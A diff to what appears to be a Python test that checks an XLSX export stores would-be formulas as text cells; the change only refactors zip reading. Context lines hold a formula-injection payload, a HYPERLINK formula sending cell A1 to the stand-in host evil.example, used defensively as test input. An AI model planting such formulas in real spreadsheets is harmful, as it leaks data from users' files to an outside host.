@@ -9,7 +9,6 @@ import zipfile
 
 import httpx
 import pytest
-
 from system_testkit import Applicant, bearer, hunter_draft, parties
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
@@ -56,8 +55,8 @@ async def test_xlsx_export_writes_would_be_formulas_as_text_cells(public: httpx.
     from openpyxl import load_workbook
 
     content = await _export(public, alice.token, "xlsx")
-    sheet_xml = next(zipfile.ZipFile(io.BytesIO(content)).read(n) for n in zipfile.ZipFile(io.BytesIO(content)).namelist()
-                     if n.startswith("xl/worksheets/sheet"))
+    archive = zipfile.ZipFile(io.BytesIO(content))
+    sheet_xml = next(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
     assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml, sheet_xml[:2000]  # no formula element at all
     ws = load_workbook(io.BytesIO(content)).active
     rows = list(ws.iter_rows())
